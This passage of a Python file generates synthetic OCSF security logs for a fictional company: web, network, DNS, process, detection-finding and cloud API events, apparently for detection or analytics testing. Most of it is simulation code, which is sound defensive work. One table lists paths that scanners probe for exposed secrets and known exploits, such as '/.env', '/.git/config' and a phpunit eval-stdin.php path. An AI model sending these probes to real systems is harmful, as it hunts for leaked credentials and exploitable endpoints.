        cols["http_response.code"] = _obj([str(c) for c in code.tolist()])  # strings, as exporters write them
        cols["http_response.latency"] = lat.astype(np.int64)
        cols["http_response.length"] = P["size"].astype(np.int64)
        cols["http_response.content_type"] = _EP_CTYPE[ep]
        cols["duration"] = lat.astype(np.int64)  # the same measure again, under its OCSF base name
        cols["src_endpoint.ip"] = P["src_ip"]
        cols["src_endpoint.port"] = P["src_port"].astype(np.int64)
        self.geo(cols, "src_endpoint", P["city"], latlong=True)
        cols["dst_endpoint.hostname"] = pop.host_name[P["server"]]
        cols["dst_endpoint.ip"] = pop.host_ip[P["server"]]
        cols["dst_endpoint.port"] = _lookup({k: v[2] for k, v in SERVICES.items()}, service).astype(np.int64)
        cols["dst_endpoint.svc_name"] = service
        upstream = _lookup({k: f"outbound|{v[2]}||{v[1]}" for k, v in SERVICES.items()}, service)
        cols["unmapped"] = _obj([f'{{"trace_id": "{tr}", "upstream_cluster": "{up}"}}'
                                 for tr, up in zip(P["trace"].tolist(), upstream.tolist())])
        return Block("http", cols)

    # ================================================================== Network Activity (4001)
    def normal_net(self, n: int) -> dict:
        rng, pop = self.rng, self.pop
        kinds = ("lap_saas", "lap_int", "srv_mesh", "srv_saas", "inbound", "backup", "refused")
        kind = rng.choice(len(kinds), size=n, p=[0.375, 0.15, 0.26, 0.10, 0.08, 0.006, 0.029])
        src_host = np.full(n, -1, dtype=np.int64)
        dst_host = np.full(n, -1, dtype=np.int64)
        ext = np.full(n, -1, dtype=np.int64)  # external party index (saas or customer)
        dport = np.zeros(n, dtype=np.int64)
        t = np.empty(n, dtype=np.int64)
        laptops = np.flatnonzero(pop.host_role == "laptop")
        lw = pop.host_activity[laptops] / pop.host_activity[laptops].sum()
        servers = pop.servers()
        sw = pop.host_activity[servers] / pop.host_activity[servers].sum()
        app_srv = np.flatnonzero(np.isin(pop.host_role, ("app", "edge")))
        sw_saas = pop.saas_weight / pop.saas_weight.sum()
        for k in range(len(kinds)):
            m = np.flatnonzero(kind == k)
            if not len(m):
                continue
            if kinds[k] in ("lap_saas", "lap_int") or (kinds[k] == "refused"):
                src_host[m] = rng.choice(laptops, size=len(m), p=lw)
            elif kinds[k] == "inbound":
                edge = pop.servers("edge")
                dst_host[m] = edge[rng.integers(0, len(edge), len(m))]
                cw = pop.customer_weight / pop.customer_weight.sum()
                ext[m] = rng.choice(len(cw), size=len(m), p=cw)
                dport[m] = np.where(rng.random(len(m)) < 0.93, 443, 80)
            elif kinds[k] == "srv_mesh":
                src_host[m] = rng.choice(app_srv, size=len(m))
            elif kinds[k] == "backup":
                src = np.flatnonzero(np.isin(pop.host_role, ("db", "fs")))
                src_host[m] = src[rng.integers(0, len(src), len(m))]
                dst_host[m] = pop.host_by_name("backup-01")
                dport[m] = 873
            else:
                src_host[m] = rng.choice(servers, size=len(m), p=sw)
            if kinds[k] in ("lap_saas", "srv_saas"):
                ext[m] = rng.choice(len(sw_saas), size=len(m), p=sw_saas)
                dport[m] = rng.choice(np.array([443, 80, 123]), size=len(m), p=[0.9, 0.07, 0.03])
            elif kinds[k] == "lap_int":
                choice = rng.integers(0, len(_LAPTOP_INTERNAL), len(m))
                for j, (role, port) in enumerate(_LAPTOP_INTERNAL):
                    mm = m[choice == j]
                    cand = pop.servers(role)
                    dst_host[mm] = cand[rng.integers(0, len(cand), len(mm))]
                    dport[mm] = port
            elif kinds[k] == "srv_mesh":
                choice = rng.integers(0, len(_MESH_TARGETS), len(m))
                for j, (prefix, port) in enumerate(_MESH_TARGETS):
                    mm = m[choice == j]
                    cand = np.flatnonzero(np.char.startswith(pop.host_name.astype(str), prefix))
                    dst_host[mm] = cand[rng.integers(0, len(cand), len(mm))]
                    dport[mm] = port
            elif kinds[k] == "refused":
                srv = pop.servers()
                dst_host[m] = srv[rng.integers(0, len(srv), len(m))]
                dport[m] = np.array(_CLOSED_PORTS)[rng.integers(0, len(_CLOSED_PORTS), len(m))]
        # timing follows whoever starts the flow
        prof = np.full(n, "server", dtype=object)
        tz = np.zeros(n, dtype=np.int64)
        has_src = src_host >= 0
        owner = pop.host_owner[np.maximum(src_host, 0)]
        lap = has_src & (owner >= 0)
        prof[lap] = pop.user_profile[owner[lap]]
        tz[lap] = pop.user_tz[owner[lap]]
        prof[kind == 5] = "nightly"
        inbound = kind == 4
        prof[inbound] = "customer"
        tz[inbound] = self.city_tz[pop.customer_city[np.maximum(ext[inbound], 0)]]
        t[:] = self.times(prof, tz)
        return self.draw_net(t, np.array(kinds, dtype=object)[kind], src_host, dst_host, ext, dport)

    def draw_net(self, t, kind, src_host, dst_host, ext, dport) -> dict:
        rng, pop = self.rng, self.pop
        n = len(t)
        src_ip = np.empty(n, dtype=object)
        dst_ip = np.empty(n, dtype=object)
        src_city = np.full(n, -1, dtype=np.int64)
        dst_city = np.full(n, -1, dtype=np.int64)
        inbound = kind == "inbound"
        outbound = np.isin(kind, ("lap_saas", "srv_saas"))
        src_ip[~inbound] = pop.host_ip[src_host[~inbound]]
        src_ip[inbound] = pop.customer_ip[ext[inbound]]
        src_city[inbound] = pop.customer_city[ext[inbound]]
        dst_ip[outbound] = pop.saas_ip[ext[outbound]]
        dst_city[outbound] = pop.saas_city[ext[outbound]]
        internal = ~outbound
        dst_ip[internal] = pop.host_ip[dst_host[internal]]
        udp = np.isin(dport, (53, 123))
        direction = np.where(inbound, 1, np.where(outbound, 2, 3))
        # volumes: heavy tails everywhere, downloads dominate for people, backups are huge
        out_med = np.select([kind == "lap_saas", kind == "srv_saas", kind == "inbound", kind == "backup"],
                            [6_000, 9_000, 1_800, 8e8], 3_500)
        in_med = np.select([kind == "lap_saas", kind == "srv_saas", kind == "inbound", kind == "backup"],
                           [90_000, 20_000, 45_000, 90_000], 12_000)
        sig = np.where(kind == "backup", 0.7, 1.5)
        bytes_out = _lognormal(rng, out_med, sig, n)
        bytes_in = _lognormal(rng, in_med, sig + 0.2, n)
        dur = _lognormal(rng, np.select([kind == "backup", kind == "srv_mesh"], [400_000, 900], 4_000), 1.3, n)
        bytes_out[udp] = rng.integers(60, 120, udp.sum())
        bytes_in[udp] = rng.integers(60, 480, udp.sum())
        dur[udp] = rng.integers(1, 40, udp.sum())
        activity = np.full(n, 6, dtype=np.int64)
        ref = kind == "refused"
        activity[ref] = rng.choice(np.array([5, 3, 4]), size=ref.sum(), p=[0.7, 0.2, 0.1])
        bytes_out[ref] = rng.integers(60, 75, ref.sum())
        bytes_in[ref] = np.where(activity[ref] == 4, 0, rng.integers(40, 55, ref.sum()))
        dur[ref] = rng.integers(0, 3, ref.sum())
        mss = rng.integers(1200, 1449, n)
        bo = np.maximum(40, np.round(bytes_out)).astype(np.int64)
        bi = np.maximum(0, np.round(bytes_in)).astype(np.int64)
        return {
            "t": t, "kind": kind, "src_host": src_host, "src_ip": src_ip, "dst_ip": dst_ip,
            "src_city": src_city, "dst_city": dst_city, "src_port": rng.integers(32768, 61000, n),
            "dst_port": dport, "udp": udp, "direction": direction, "activity": activity,
            "bytes_out": bo, "bytes_in": bi, "packets_out": np.maximum(1, bo // mss + (bo > 0) * 2),
            "packets_in": np.where(bi > 0, np.maximum(1, bi // mss + 1), 0),
            "duration": np.maximum(0, np.round(dur)).astype(np.int64),
        }

    def render_net(self, P: dict) -> Block:
        n = len(P["t"])
        cols = self.common("net", P["t"], P["activity"], np.ones(n, dtype=np.int64), "net")
        cols["src_endpoint.ip"] = P["src_ip"]
        cols["src_endpoint.port"] = P["src_port"].astype(np.int64)
        src_c = np.where(P["src_city"] < 0, len(CITIES), P["src_city"])
        cols["src_endpoint.location.city"] = self.city_name[src_c]
        cols["src_endpoint.location.country"] = self.city_country[src_c]
        cols["dst_endpoint.ip"] = P["dst_ip"]
        cols["dst_endpoint.port"] = P["dst_port"].astype(np.int64)
        self.geo(cols, "dst_endpoint", P["dst_city"], latlong=False)
        cols["connection_info.protocol_name"] = _where(P["udp"], "udp", "tcp")
        cols["connection_info.protocol_num"] = np.where(P["udp"], 17, 6).astype(np.int64)
        cols["connection_info.direction_id"] = P["direction"].astype(np.int64)
        cols["connection_info.direction"] = _lookup({1: "Inbound", 2: "Outbound", 3: "Lateral"}, P["direction"])
        cols["traffic.bytes_in"] = P["bytes_in"]
        cols["traffic.bytes_out"] = P["bytes_out"]
        cols["traffic.packets_in"] = P["packets_in"].astype(np.int64)
        cols["traffic.packets_out"] = P["packets_out"].astype(np.int64)
        cols["start_time"] = (P["t"] - P["duration"]).astype(np.int64)
        cols["end_time"] = P["t"].astype(np.int64)
        cols["duration"] = P["duration"].astype(np.int64)
        ext_ip = _where(P["direction"] == 1, P["src_ip"], _where(P["direction"] == 2, P["dst_ip"], None))
        name = _where(P["direction"] == 1, "src_endpoint.ip", "dst_endpoint.ip")
        cols["observables"] = _obj([
            None if ip is None else f'[{{"name": "{nm}", "type": "IP Address", "type_id": 2, "value": "{ip}"}}]'
            for ip, nm in zip(ext_ip.tolist(), name.tolist())
        ])
        return Block("net", cols)

    # ================================================================== DNS Activity (4003)
    def normal_dns(self, n: int) -> dict:
        rng, pop = self.rng, self.pop
        hw = pop.host_activity * np.where(pop.host_role == "laptop", 1.0, 2.2)
        hw[np.isin(pop.host_role, ("dns",))] = 0.0
        host = rng.choice(pop.n_hosts, size=n, p=hw / hw.sum())
        owner = pop.host_owner[host]
        lap = owner >= 0
        prof = _where(lap, pop.user_profile[np.maximum(owner, 0)], "server")
        tz = np.where(lap, pop.user_tz[np.maximum(owner, 0)], 0)
        t = self.times(prof, tz)
        # what is asked
        n_dom = len(DNS_DOMAINS)
        lap_w = np.array([d[1] for d in DNS_DOMAINS])
        srv_w = np.array([d[2] for d in DNS_DOMAINS])
        dom = np.empty(n, dtype=np.int64)
        dom[lap] = rng.choice(n_dom, size=lap.sum(), p=lap_w / lap_w.sum())
        dom[~lap] = rng.choice(n_dom, size=(~lap).sum(), p=srv_w / srv_w.sum())
        qname = np.array([d[0] for d in DNS_DOMAINS], dtype=object)[dom]
        qtype = np.array([d[3] for d in DNS_DOMAINS], dtype=object)[dom]
        cdn = lap & (rng.random(n) < 0.18)
        cdn_idx = rng.integers(0, len(pop.cdn_names), n)
        qname[cdn] = pop.cdn_names[cdn_idx[cdn]]
        ptr = ~lap & (rng.random(n) < 0.1)
        octs = rng.integers(10, 40, (n, 2))
        qname[ptr] = _obj([f"{a}.{b % 9 + 1}.20.10.in-addr.arpa" for a, b in octs[ptr].tolist()])
        qtype[ptr] = "PTR"
        aaaa = (qtype == "A") & (rng.random(n) < 0.22)
        qtype[aaaa] = "AAAA"
        https = (qtype == "A") & lap & (rng.random(n) < 0.06)
        qtype[https] = "HTTPS"
        dom = np.where(cdn | ptr, -1, dom)
        dom = np.where(cdn, -2 - cdn_idx, dom)
        # typos and stale names are normal noise
        typo = rng.random(n) < 0.015
        qname[typo] = _obj([_mangle(q, k) for q, k in zip(qname[typo].tolist(), rng.integers(0, 4, typo.sum()).tolist())])
        return self.draw_dns(t, host, qname, qtype, dom, typo)

    def draw_dns(self, t, host, qname, qtype, dom, typo) -> dict:
        rng, pop = self.rng, self.pop
        n = len(t)
        rcode = np.zeros(n, dtype=np.int64)
        rcode[typo | (qname == "wpad.corp.example.com")] = 3
        rcode[rng.random(n) < 0.002] = 2
        resolver = rng.integers(0, len(pop.resolver_ips), n)
        answers = self._answers(qname, qtype, dom, rcode)
        return {
            "t": t, "host": host, "src_ip": pop.host_ip[host], "src_port": rng.integers(32768, 61000, n),
            "resolver": resolver, "qname": qname, "qtype": qtype, "rcode": rcode, "answers": answers,
            "duration": np.maximum(0, np.round(_lognormal(rng, 2.0, 1.2, n))).astype(np.int64),
        }

    def _domain_answers(self) -> dict:
        pop = self.pop
        out = {}
        for i, (name, _lw, _sw, _tp) in enumerate(DNS_DOMAINS):
            if name.endswith(CORP_DOMAIN):
                ip = f"10.20.8.{20 + i}"
            else:
                ip = pop.saas_ip[(i * 7) % len(pop.saas_ip)]
            out[i] = (ip, (60, 300, 300, 3600, 20)[i % 5])
        return out

    def _answers(self, qname, qtype, dom, rcode) -> np.ndarray:
        pop = self.pop
        res = []
        n_saas = len(pop.saas_ip)
        for q, tp, d, rc in zip(qname.tolist(), qtype.tolist(), dom.tolist(), rcode.tolist()):
            if rc != 0:
                res.append(None)
                continue
            if d <= -2:  # CDN name: a CNAME chain then an address
                ip = pop.saas_ip[(-d * 13) % n_saas]
                edge = f"{q.split('.')[0]}.edge.{q.split('.', 1)[1]}"
                if tp == "AAAA":
                    res.append(f'[{{"class": "IN", "type": "CNAME", "rdata": "{edge}", "ttl": 60}}]')
                else:
                    res.append(f'[{{"class": "IN", "type": "CNAME", "rdata": "{edge}", "ttl": 60}}, '
                               f'{{"class": "IN", "type": "A", "rdata": "{ip}", "ttl": 60}}]')
                continue
            if tp == "PTR":
                res.append(f'[{{"class": "IN", "type": "PTR", "rdata": "host-{q.split(".")[0]}.{CORP_DOMAIN}", "ttl": 3600}}]')
                continue
            ip, ttl = self._domain_ips[d]
            if tp == "A" or tp == "HTTPS":
                res.append(f'[{{"class": "IN", "type": "A", "rdata": "{ip}", "ttl": {ttl}}}]')
            elif tp == "AAAA":
                if q.endswith(CORP_DOMAIN):
                    res.append(None)
                else:
                    res.append(f'[{{"class": "IN", "type": "AAAA", "rdata": "2606:4700:{d + 10:x}::{(d * 37) % 255:x}", "ttl": {ttl}}}]')
            elif tp == "SRV":
                res.append(f'[{{"class": "IN", "type": "SRV", "rdata": "0 100 389 dc-01.{CORP_DOMAIN}", "ttl": 600}}, '
                           f'{{"class": "IN", "type": "SRV", "rdata": "0 100 389 dc-02.{CORP_DOMAIN}", "ttl": 600}}]')
            elif tp == "TXT":
                res.append('[{"class": "IN", "type": "TXT", "rdata": "v=spf1 include:_spf.google.com ~all", "ttl": 3600}]')
            else:
                res.append(None)
        return _obj(res)

    def render_dns(self, P: dict) -> Block:
        pop = self.pop
        n = len(P["t"])
        cols = self.common("dns", P["t"], np.full(n, 6, dtype=np.int64), np.ones(n, dtype=np.int64), "dns")
        cols["query.hostname"] = P["qname"]
        cols["query.type"] = P["qtype"]
        cols["query.class"] = _obj(["IN"] * n)
        cols["rcode_id"] = P["rcode"].astype(np.int64)
        cols["rcode"] = _lookup({0: "NoError", 2: "ServError", 3: "NXDomain"}, P["rcode"])
        cols["answers"] = P["answers"]
        cols["src_endpoint.ip"] = P["src_ip"]
        # this source also ships the parent object as a JSON string (value present nested *and* flat)
        cols["src_endpoint"] = _obj([f'{{"ip": "{ip}", "port": {p}}}' for ip, p in zip(P["src_ip"].tolist(), P["src_port"].tolist())])
        cols["dst_endpoint.ip"] = np.array(pop.resolver_ips, dtype=object)[P["resolver"]]
        cols["dst_endpoint.port"] = np.full(n, 53, dtype=np.int64)
        cols["connection_info.protocol_name"] = _obj(["udp"] * n)
        cols["connection_info.direction_id"] = np.full(n, 3, dtype=np.int64)
        cols["connection_info.direction"] = _obj(["Lateral"] * n)
        cols["duration"] = P["duration"]
        return Block("dns", cols)

    # ================================================================== Process Activity (1007)
    def _host_kinds(self) -> np.ndarray:
        """A lineage group per host: OS family + role (laptops by their owner's role)."""
        pop = self.pop
        out = np.empty(pop.n_hosts, dtype=object)
        for h in range(pop.n_hosts):
            os_name = pop.host_os[h]
            fam = "win" if os_name.startswith("Windows") else "mac" if os_name.startswith("macOS") else "linux"
            if pop.host_role[h] == "laptop":
                r = pop.user_role[pop.host_owner[h]]
                out[h] = f"{fam}:laptop:{'tech' if r in ('engineer', 'admin') else 'office'}"
            else:
                out[h] = f"{fam}:{pop.host_role[h]}"
        return out

    def normal_proc(self, n: int) -> dict:
        rng, pop = self.rng, self.pop
        hw = pop.host_activity * np.where(pop.host_role == "laptop", 1.0, 1.6)
        host = rng.choice(pop.n_hosts, size=n, p=hw / hw.sum())
        owner = pop.host_owner[host]
        lap = owner >= 0
        prof = _where(lap, pop.user_profile[np.maximum(owner, 0)], "server")
        prof[np.isin(pop.host_role[host], ("backup", "ci"))] = "nightly"
        tz = np.where(lap, pop.user_tz[np.maximum(owner, 0)], 0)
        t = self.times(prof, tz)
        lin = np.empty(n, dtype=np.int64)
        hk = self._host_kind[host]
        for g in sorted(set(hk.tolist())):
            m = np.flatnonzero(hk == g)
            w = _lineage_weights(g)
            lin[m] = rng.choice(len(LINEAGES), size=len(m), p=w)
        return self.draw_proc(t, host, lin)

    def draw_proc(self, t, host, lin) -> dict:
        rng, pop = self.rng, self.pop
        n = len(t)
        win = np.char.startswith(pop.host_os[host].astype(str), "Windows")
        pid = np.where(win, 4 * rng.integers(200, 16_000, n), rng.integers(1_200, 420_000, n))
        ppid = np.where(win, 4 * rng.integers(100, 4_000, n), rng.integers(1, 60_000, n))
        terminate = rng.random(n) < 0.25
        exit_code = np.where(rng.random(n) < 0.95, 0, rng.choice(np.array([1, 2, 137, -1073741510]), size=n))
        owner = pop.host_owner[host]
        ids = rng.integers(100, 99_999, n)
        hexs = self.hexids(n, 12)
        day = ((t - self.start_ms) // 86_400_000).tolist()
        user = np.empty(n, dtype=object)
        cmd = np.empty(n, dtype=object)
        for li in sorted(set(lin.tolist())):
            m = np.flatnonzero(lin == li)
            spec = LINEAGES[li]
            tmpl = spec[6]
            own = owner[m]
            owner_name = _where(own >= 0, pop.user_name[np.maximum(own, 0)], None)
            cmd[m] = [tmpl.format(n=i, hex=h, user=(o or "deploy"), day=2 + d, doc=_DOCS[i % len(_DOCS)])
                      for i, h, o, d in zip(ids[m].tolist(), hexs[m].tolist(), owner_name.tolist(), np.array(day)[m].tolist())]
            u = spec[7]
            if u == "owner":
                user[m] = _obj([(f"CORP\\{o}" if w else o) for o, w in zip(owner_name.tolist(), win[m].tolist())])
            else:
                user[m] = u
        user_type = np.where(np.isin(user, _SYSTEM_USERS), 3, 1)
        return {"t": t, "host": host, "lin": lin, "pid": pid, "ppid": ppid, "terminate": terminate,
                "exit_code": exit_code, "cmd": cmd, "user": user, "user_type": user_type,
                "uid": self.uuids(n)}

    def render_proc(self, P: dict) -> Block:
        pop = self.pop
        lin, host = P["lin"], P["host"]
        n = len(lin)
        activity = np.where(P["terminate"], 2, 1)
        cols = self.common("proc", P["t"], activity, np.ones(n, dtype=np.int64), "proc")
        name = np.array([x[2] for x in LINEAGES], dtype=object)[lin]
        path = np.array([x[3] for x in LINEAGES], dtype=object)[lin]
        pname = np.array([x[0] for x in LINEAGES], dtype=object)[lin]
        cols["message"] = _obj([
            (f"Process {nm} (pid {p}) exited with code {c}" if term else f"Process {nm} (pid {p}) started by {u}")
            for nm, p, c, term, u in zip(name.tolist(), P["pid"].tolist(), P["exit_code"].tolist(),
                                         P["terminate"].tolist(), P["user"].tolist())
        ])
        cols["process.name"] = name
        cols["process.pid"] = P["pid"].astype(np.int64)
        cols["process.uid"] = P["uid"]
        cols["process.cmd_line"] = P["cmd"]
        cols["process.file.name"] = name
        cols["process.file.path"] = path
        cols["process.file.type_id"] = np.ones(n, dtype=np.int64)
        cols["process.parent_process.name"] = pname
        cols["process.parent_process.pid"] = P["ppid"].astype(np.int64)
        cols["actor.user.name"] = P["user"]
        cols["actor.user.type_id"] = P["user_type"].astype(np.int64)
        cols["device.hostname"] = pop.host_name[host]
        cols["device.ip"] = pop.host_ip[host]
        cols["device.type_id"] = pop.host_type_id[host]
        cols["device.os.name"] = pop.host_os[host]
        cols["device.os.type_id"] = pop.host_os_type_id[host]
        cols["exit_code"] = np.where(P["terminate"], P["exit_code"], np.nan)
        return Block("proc", cols)

    # ================================================================== Detection Finding (2004)
    def normal_finding(self, n: int) -> dict:
        rng, pop = self.rng, self.pop
        # a few noisy hosts raise most alerts (CI runners using curl, a handful of laptops)
        noise = rng.pareto(1.2, pop.n_hosts) + 0.05
        noise[np.char.startswith(pop.host_name.astype(str), "ci-runner")] *= 12
        host = rng.choice(pop.n_hosts, size=n, p=noise / noise.sum())
        win = np.char.startswith(pop.host_os[host].astype(str), "Windows")
        lap = pop.host_role[host] == "laptop"
        rule = np.empty(n, dtype=np.int64)
        for grp in (0, 1, 2):
            m = np.flatnonzero((~lap if grp == 0 else (lap & win) if grp == 1 else (lap & ~win)))
            w = np.array([r[3][grp] for r in RULES])
            rule[m] = rng.choice(len(RULES), size=len(m), p=w / w.sum())
        owner = pop.host_owner[host]
        prof = _where(owner >= 0, pop.user_profile[np.maximum(owner, 0)], "server")
        t = self.times(prof, np.where(owner >= 0, pop.user_tz[np.maximum(owner, 0)], 0))
        return {"t": t, "host": host, "rule": rule, "uid": self.uuids(n),
                "sev_bump": rng.random(n) < 0.08}

    def render_finding(self, P: dict) -> Block:
        pop = self.pop
        rule, host = P["rule"], P["host"]
        n = len(rule)
        sev = np.array([r[2] for r in RULES])[rule] + P["sev_bump"].astype(np.int64)
        cols = self.common("finding", P["t"], np.ones(n, dtype=np.int64), sev, "finding",
                           np.ones(n, dtype=np.int64), FINDING_STATUS)
        title = np.array([r[0] for r in RULES], dtype=object)[rule]
        hn = pop.host_name[host]
        ip = pop.host_ip[host]
        cols["message"] = _obj([f"{ti} on {h}" for ti, h in zip(title.tolist(), hn.tolist())])
        cols["finding_info.title"] = title
        cols["finding_info.uid"] = P["uid"]
        cols["finding_info.analytic.name"] = title
        cols["finding_info.analytic.uid"] = _obj([str(r[1]) for r in RULES])[rule]
        cols["finding_info.analytic.type_id"] = np.ones(n, dtype=np.int64)
        cols["device.hostname"] = hn
        cols["device.ip"] = ip
        cols["device.type_id"] = pop.host_type_id[host]
        cols["observables"] = _obj([
            f'[{{"name": "device.hostname", "type": "Hostname", "type_id": 1, "value": "{h}"}}, '
            f'{{"name": "device.ip", "type": "IP Address", "type_id": 2, "value": "{i}"}}]'
            for h, i in zip(hn.tolist(), ip.tolist())
        ])
        return Block("finding", cols)

    # ------------------------------------------------------------------ dispatch
    def normal(self, cls: str, n: int) -> dict:
        return getattr(self, f"normal_{cls}")(n)

    def render(self, cls: str, P: dict) -> Block:
        return getattr(self, f"render_{cls}")(P)


def _mangle(q: str, k: int) -> str:
    if k == 0:
        return q.replace("example", "exmaple", 1)
    if k == 1:
        return q.rsplit(".", 1)[0] + ".local"
    if k == 2:
        return q + ".corp.example.com" if not q.endswith(CORP_DOMAIN) else "old-" + q
    return q.replace(".", "", 1)


# --------------------------------------------------------------------------------------------------
# static tables used by the renderers
# --------------------------------------------------------------------------------------------------
_EP_EDGE_W = np.array([e.weight if e.edge else 0.0 for e in ENDPOINTS])
_EP_MESH_W = np.array([e.weight if e.mesh and e.service not in ("storefront",) else 0.0 for e in ENDPOINTS])
_EP_STAFF_W = np.array([
    {"reporting": 4.0, "orders": 1.0, "payments": 0.5}.get(e.service, 0.0) * e.weight for e in ENDPOINTS
])
_EP_EDGE = _EP_EDGE_W / _EP_EDGE_W.sum()
_EP_MESH = _EP_MESH_W / _EP_MESH_W.sum()
_EP_STAFF = _EP_STAFF_W / _EP_STAFF_W.sum()
_EP_LAT = np.array([e.latency_ms for e in ENDPOINTS])
_EP_SIG = np.array([e.latency_sigma for e in ENDPOINTS])
_EP_SIZE = np.array([e.size_bytes for e in ENDPOINTS])
_EP_SIZE_SIG = np.array([e.size_sigma for e in ENDPOINTS])
_EP_ERR4 = np.array([e.err4 for e in ENDPOINTS])
_EP_ERR5 = np.array([e.err5 for e in ENDPOINTS])
_EP_METHOD = np.array([e.method for e in ENDPOINTS], dtype=object)
_EP_PATH = np.array([e.path for e in ENDPOINTS], dtype=object)
_EP_SERVICE = np.array([e.service for e in ENDPOINTS], dtype=object)
_EP_CTYPE = np.array([e.content_type for e in ENDPOINTS], dtype=object)
_CATEGORIES = ("shoes", "outdoor", "kitchen", "garden", "electronics", "toys", "books", "sports", "home-office")
_SEARCH_TERMS = ("running+shoes", "tent", "coffee+grinder", "lego", "usb-c+cable", "desk+lamp", "yoga+mat",
                 "headphones", "garden+hose", "backpack", "air+fryer", "monitor+27")
_BOT_PATHS = ("/wp-login.php", "/.env", "/.git/config", "/admin/config.php", "/phpmyadmin/index.php",
              "/xmlrpc.php", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/robots.txt",
              "/actuator/health", "/server-status", "/cgi-bin/luci/;stok=/locale")
_LAPTOP_INTERNAL = (("dc", 88), ("dc", 389), ("dc", 445), ("fs", 445), ("web", 443), ("web", 443), ("mail", 587))
_MESH_TARGETS = (("app-orders", 8080), ("app-payments", 8443), ("app-inventory", 8080), ("app-catalog", 8080),
                 ("db-orders", 5432), ("db-orders", 5432), ("db-payments", 5432), ("cache", 6379), ("cache", 6379),
                 ("app-search", 9200), ("app-auth", 8080))
_CLOSED_PORTS = (3389, 8443, 9090, 5900, 8081, 22, 3306, 27017, 5985, 1433)


def _APP_SERVERS(pop: Population) -> np.ndarray:
    return np.flatnonzero(np.isin(pop.host_role, ("app", "edge")))


# Cloud API operations: (service, operation, activity_id, resource types or None, privileged)
API_OPS = (
    ("s3", "GetObject", 2, "AWS::S3::Object", False),
    ("s3", "PutObject", 1, "AWS::S3::Object", False),
    ("s3", "ListBucket", 2, "AWS::S3::Bucket", False),
    ("s3", "DeleteObject", 4, "AWS::S3::Object", False),
    ("s3", "PutBucketPolicy", 3, "AWS::S3::Bucket", True),
    ("ec2", "DescribeInstances", 2, None, False),
    ("ec2", "RunInstances", 1, "AWS::EC2::Instance", False),
    ("ec2", "TerminateInstances", 4, "AWS::EC2::Instance", False),
    ("ec2", "CreateSnapshot", 1, "AWS::EC2::Snapshot", False),
    ("ec2", "AuthorizeSecurityGroupIngress", 3, "AWS::EC2::SecurityGroup", True),
    ("iam", "GetRole", 2, "AWS::IAM::Role", False),
    ("iam", "ListRoles", 2, None, False),
    ("iam", "CreateUser", 1, "AWS::IAM::User", True),
    ("iam", "AttachUserPolicy", 3, "AWS::IAM::User+AWS::IAM::Policy", True),
    ("iam", "CreateAccessKey", 1, "AWS::IAM::User", True),
    ("iam", "PutRolePolicy", 3, "AWS::IAM::Role", True),
    ("sts", "AssumeRole", 1, "AWS::IAM::Role", False),
    ("sts", "GetCallerIdentity", 2, None, False),
    ("logs", "FilterLogEvents", 2, "AWS::Logs::LogGroup", False),
    ("logs", "PutLogEvents", 1, "AWS::Logs::LogGroup", False),
    ("monitoring", "GetMetricData", 2, None, False),
    ("ecs", "UpdateService", 3, "AWS::ECS::Service", False),
    ("ecr", "GetAuthorizationToken", 2, None, False),
    ("ecr", "BatchGetImage", 2, "AWS::ECR::Repository", False),
    ("kms", "Decrypt", 2, "AWS::KMS::Key", False),
    ("kms", "ScheduleKeyDeletion", 4, "AWS::KMS::Key", True),
    ("cloudtrail", "LookupEvents", 2, None, False),
    ("cloudtrail", "StopLogging", 3, "AWS::CloudTrail::Trail", True),
    ("dynamodb", "GetItem", 2, "AWS::DynamoDB::Table", False),
    ("dynamodb", "PutItem", 1, "AWS::DynamoDB::Table", False),
    ("glue", "StartJobRun", 1, "AWS::Glue::Job", False),
)
API_OP_INDEX = {op[1]: i for i, op in enumerate(API_OPS)}
API_ARN = {
    "AWS::S3::Object": "arn:aws:s3:::{bucket}/exports/2026/03/part-{key}.csv.gz",
    "AWS::S3::Bucket": "arn:aws:s3:::{bucket}",
    "AWS::EC2::Instance": "arn:aws:ec2:{region}:{acct}:instance/i-{hex}",
    "AWS::EC2::Snapshot": "arn:aws:ec2:{region}::snapshot/snap-{hex}",
    "AWS::EC2::SecurityGroup": "arn:aws:ec2:{region}:{acct}:security-group/sg-{hex}",
    "AWS::IAM::Role": "arn:aws:iam::{acct}:role/app-{bucket}",
    "AWS::IAM::User": "arn:aws:iam::{acct}:user/{user}",
    "AWS::IAM::Policy": "arn:aws:iam::aws:policy/{policy}",
    "AWS::Logs::LogGroup": "arn:aws:logs:{region}:{acct}:log-group:/ecs/{bucket}",
    "AWS::ECS::Service": "arn:aws:ecs:{region}:{acct}:service/prod/{bucket}",
    "AWS::ECR::Repository": "arn:aws:ecr:{region}:{acct}:repository/{bucket}",
    "AWS::KMS::Key": "arn:aws:kms:{region}:{acct}:key/{hex}",
    "AWS::CloudTrail::Trail": "arn:aws:cloudtrail:{region}:{acct}:trail/org-trail",
    "AWS::DynamoDB::Table": "arn:aws:dynamodb:{region}:{acct}:table/{bucket}",
    "AWS::Glue::Job": "arn:aws:glue:{region}:{acct}:job/{bucket}-nightly",
}
API_BUCKET = {
    "svc-ci-deploy": "ci-artifacts", "svc-backup": "backups-eu-central-1", "svc-etl": "orders-exports-prod",
    "svc-monitoring": "metrics", "svc-reporting": "orders-exports-prod", "svc-orders-app": "orders",
    "svc-payments-app": "payments", "svc-log-shipper": "app-logs", "svc-terraform": "terraform-state-shared",
    "svc-jira-sync": "jira-attachments", "svc-scanner": "security-scans", "default": "shared-docs",
}
_POLICIES = ("ReadOnlyAccess", "AmazonS3ReadOnlyAccess", "CloudWatchLogsReadOnlyAccess", "AmazonEC2ReadOnlyAccess")
API_BUCKETS_ENG = ("orders", "catalog", "search", "app-logs", "ci-artifacts", "orders-exports-prod")
_ENG_OPS = {"DescribeInstances": 6, "GetObject": 3, "ListBucket": 2, "FilterLogEvents": 5, "GetMetricData": 2,
            "AssumeRole": 3, "GetCallerIdentity": 2, "GetRole": 1, "ListRoles": 1, "UpdateService": 0.5,
            "BatchGetImage": 1, "GetAuthorizationToken": 1, "LookupEvents": 0.3, "PutObject": 1,
            "DeleteObject": 0.2, "RunInstances": 0.1, "TerminateInstances": 0.05, "Decrypt": 0.5}
API_PROFILES = {
    "engineer": _ENG_OPS,
    "admin": {**_ENG_OPS, "GetRole": 2, "ListRoles": 2, "CreateUser": 0.3, "AttachUserPolicy": 0.3,
              "CreateAccessKey": 0.15, "PutRolePolicy": 0.3, "PutBucketPolicy": 0.15,
              "AuthorizeSecurityGroupIngress": 0.3, "LookupEvents": 1.0},
    "finance": {"GetObject": 6, "ListBucket": 4},
